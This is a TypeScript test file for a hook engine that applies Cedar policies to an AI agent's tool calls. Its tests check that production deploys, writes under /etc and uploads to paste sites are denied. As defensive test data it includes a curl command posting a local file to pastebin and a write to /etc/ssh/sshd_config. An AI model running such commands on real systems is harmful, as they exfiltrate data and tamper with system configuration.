import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { isDenyOnly } from "../../src/config/deny-only.ts";
import { loadLayers } from "../../src/config/load.ts";
import { underTrust } from "../../src/config/trusted.ts";
import { HookExecutor } from "../../src/engine/executor.ts";
import { HookEvent } from "../../src/event/event.ts";
import { Hook } from "../../src/hook/hook.ts";
import { HookRegistry } from "../../src/registry/registry.ts";

const SCHEMA =
  /```text\n(entity [\s\S]*?)```/.exec(
    readFileSync(new URL("../../docs/policy-engines.md", import.meta.url), "utf8"),
  )?.[1] ?? "";

const POLICIES = `
@id("no-prod") @reason("Production is changed by CI.")
forbid(principal, action, resource) when { context.command like "*--prod*" };

@id("no-etc")
forbid(principal, action, resource in Path::"/etc") when { context.effects.contains("write") };

@id("no-paste") @reason("Nothing leaves for paste sites.")
forbid(principal, action, resource == Host::"pastebin.com");

@id("not-this-agent") @reason("This agent only reads.")
forbid(principal == Agent::"reader", action, resource) unless { context.read_only };
`;

async function decide(hook: object, tool: string, args: Record<string, unknown>, agent = "coder") {
  const registry = new HookRegistry();
  registry.register(hook instanceof Hook ? hook : hookOf(hook));
  const event = new HookEvent({
    type: "tool:pre_execute",
    toolName: tool,
    data: { tool_args: args },
    cwd: "/srv/app",
    agent,
  });
  return new HookExecutor({ registry }).decide(event);
}

/** A hook with these keys; one that is asked about several calls reads its policies once. */
function hookOf(keys: object): Hook {
  const text = JSON.stringify(keys);
  const hook = HOOKS.get(text) ?? Hook.fromJSON({ name: "policies", event: "tool:pre_execute", ...keys });
  HOOKS.set(text, hook);
  return hook;
}

const HOOKS = new Map<string, Hook>();

describe("a hook with Cedar policies", () => {
  it.each([
    [
      "a command that a policy forbids",
      "bash",
      { command: "deploy --prod now" },
      "deny",
      "Production is changed by CI. (policy no-prod)",
    ],
    [
      "a path below a forbidden folder",
      "bash",
      { command: "echo x > /etc/ssh/sshd_config" },
      "deny",
      "Forbidden by the policy no-etc.",
    ],
    [
      "the same with a tool for files",
      "Write",
      { file_path: "/etc/hosts", content: "x" },
      "deny",
      "Forbidden by the policy no-etc.",
    ],
    ["reading there", "bash", { command: "cat /etc/hosts" }, "continue", undefined],
    [
      "a host that a policy forbids",
      "bash",
      { command: "curl -d @a.txt https://pastebin.com/api" },
      "deny",
      "Nothing leaves for paste sites. (policy no-paste)",
    ],
    ["what no policy speaks about", "bash", { command: "npm test" }, "continue", undefined],
  ])("judges %s", async (_, tool, args, action, reason) => {
    for (const schema of [undefined, SCHEMA]) {
      const decision = await decide(
        { cedar: { policies: POLICIES, ...(schema !== undefined && { schema }) } },
        tool,
        args,
      );
      expect(decision.action).toBe(action);
      if (reason !== undefined) expect(decision.reasons).toEqual([reason]);
    }
  });

  it("knows agents as principals, and never approves", async () => {
    const cedar = { policies: `${POLICIES}\npermit(principal, action, resource);` };
    expect((await decide({ cedar }, "bash", { command: "touch a" }, "reader")).reasons).toEqual([
      "This agent only reads. (policy not-this-agent)",
    ]);
    const passed = await decide({ cedar }, "bash", { command: "ls" }, "reader");
    expect(passed).toMatchObject({ action: "continue" });
    expect(passed.approved).toBeFalsy();
  });

  it("is asked about every path, wherever a policy mentions the resource", async () => {
    for (const policies of [
      `forbid(principal, action, resource) when { resource is Path } unless { resource in Path::"/srv/app" };`,
      `forbid(principal, action, resource is Path) unless { resource in Path::"/srv/app" };`,
    ]) {
      expect((await decide({ cedar: { policies } }, "bash", { command: "cat a.txt b.txt" })).action).toBe("continue");
      expect((await decide({ cedar: { policies } }, "bash", { command: "cat a.txt /opt/b.txt" })).action).toBe("deny");
    }
  });

  it("knows what entities say of a path, besides the folders above it", async () => {
    const cedar = {
      policies: `forbid(principal, action, resource in Zone::"payments");
forbid(principal, action, resource) when { resource has frozen && resource.frozen };`,
      entities: [
        { uid: { type: "Path", id: "/srv/pay" }, attrs: {}, parents: [{ type: "Zone", id: "payments" }] },
        { uid: { __entity: { type: "Path", id: "/srv/old.txt" } }, attrs: { frozen: true }, parents: [] },
      ],
    };
    const said = async (command: string) => (await decide({ cedar }, "bash", { command })).reasons;
    expect(await said("cat /srv/pay/a.txt")).toEqual(["Forbidden by the policy policy0."]);
    expect(await said("ls /srv/pay")).toEqual(["Forbidden by the policy policy0."]);
    expect(await said("cat /srv/old.txt")).toEqual(["Forbidden by the policy policy1."]);
    expect((await decide({ cedar }, "bash", { command: "cat /srv/new.txt" })).action).toBe("continue");
  });

  it.each([
    `forbid(principal, action, resource) when { context.effects.contains("delete") };`,
    `forbid(principal, action, resource) when { context["effects"].contains("delete") };`,
    `forbid(principal, action, resource) when { context has "deletes" && context.deletes.contains("/srv/app/a.txt") };`,
    `forbid(principal, action, resource) when { {c: context}.c.deletes.contains("/srv/app/a.txt") };`,
    `forbid(principal, action, resource) when { (if true then context else {tool: "x", effects: [""]}).effects.contains("delete") };`,
    `forbid(principal, action, resource) unless { context.read_only || context has nothing };`,
    `forbid(principal, action, resource) when { resource is Program && context.path == "/srv/app/a.txt" && context.programs.contains("rm") };`,
  ])("is told whatever it looks at: %s", async (policies) => {
    expect((await decide({ cedar: { policies } }, "bash", { command: "rm a.txt" })).reasons).toEqual([
      "Forbidden by the policy policy0.",
    ]);
    expect((await decide({ cedar: { policies } }, "bash", { command: "cat a.txt" })).action).toBe("continue");
  });

  it("with `default: deny` lets pass only what a policy permits", async () => {
    const cedar = { policies: `permit(principal, action, resource == Program::"git");`, default: "deny" };
    expect((await decide({ cedar }, "bash", { command: "git status" })).action).toBe("continue");
    expect((await decide({ cedar }, "bash", { command: "make" })).reasons).toEqual(["No policy permits it."]);
    expect((await decide({ cedar }, "bash", { command: "git status && make" })).action).toBe("deny");
  });

  it("that cannot be read, does not fit its schema or breaks on a call is a failure, judged as every failure", async () => {
    const broken = { cedar: { policies: "forbid(principal action);" } };
    expect(await decide(broken, "bash", { command: "ls" })).toMatchObject({ action: "deny" });
    expect(await decide({ ...broken, on_error: "continue" }, "bash", { command: "ls" })).toMatchObject({
      action: "continue",
    });
    const unfit = {
      cedar: { policies: 'forbid(principal, action, resource) when { context.commnd == "x" };', schema: SCHEMA },
    };
    expect((await decide(unfit, "bash", { command: "ls" })).reasons[0]).toContain("does not fit its schema");
    const breaks = { cedar: { policies: "forbid(principal, action, resource) when { context.nothing == 1 };" } };
    const decision = await decide(breaks, "bash", { command: "ls" });
    expect(decision.action).toBe("deny");
    expect(decision.results[0]?.failure?.why).toBe("exception");
  });

  it("reads policies, schema and entities from files beside its configuration, and reads them again when they change", async () => {
    const root = mkdtempSync(join(tmpdir(), "sluice-cedar-"));
    mkdirSync(join(root, ".sluice"));
    writeFileSync(
      join(root, ".sluice", "team.cedar"),
      `forbid(principal in Team::"interns", action, resource == Program::"make");`,
    );
    writeFileSync(
      join(root, ".sluice", "people.json"),
      JSON.stringify([{ uid: { type: "Agent", id: "coder" }, attrs: {}, parents: [{ type: "Team", id: "interns" }] }]),
    );
    writeFileSync(
      join(root, ".sluice", "hooks.yaml"),
      "hooks:\n  - name: team\n    event: tool:pre_execute\n    cedar: { policies: ./team.cedar, entities: ./people.json }\n",
    );
    const loaded = loadLayers(root, { layers: ["project"] });
    const [hook] = loaded.hooks;
    if (hook === undefined) throw new Error("no hook was read");
    expect(isDenyOnly(hook)).toBe(true);
    expect(underTrust(loaded, root, { home: root, env: {} })).toMatchObject({
      trust: { state: "none" },
      hooks: [{ name: "team" }],
    });
    expect((await decide(hook, "bash", { command: "make" })).action).toBe("deny");
    writeFileSync(
      join(root, ".sluice", "team.cedar"),
      `forbid(principal, action, resource == Program::"cmake-of-old");`,
    );
    expect((await decide(hook, "bash", { command: "make" })).action).toBe("continue");
  });

  it("counts beside other hooks, and as a part of them", async () => {
    const hook = { all: [{ cedar: { policies: POLICIES } }, { rules: 'call runs "make" -> deny("not here")' }] };
    expect((await decide(hook, "bash", { command: "deploy --prod" })).action).toBe("deny");
    expect((await decide(hook, "bash", { command: "make" })).action).toBe("deny");
    expect((await decide(hook, "bash", { command: "ls" })).action).toBe("continue");
  });
});
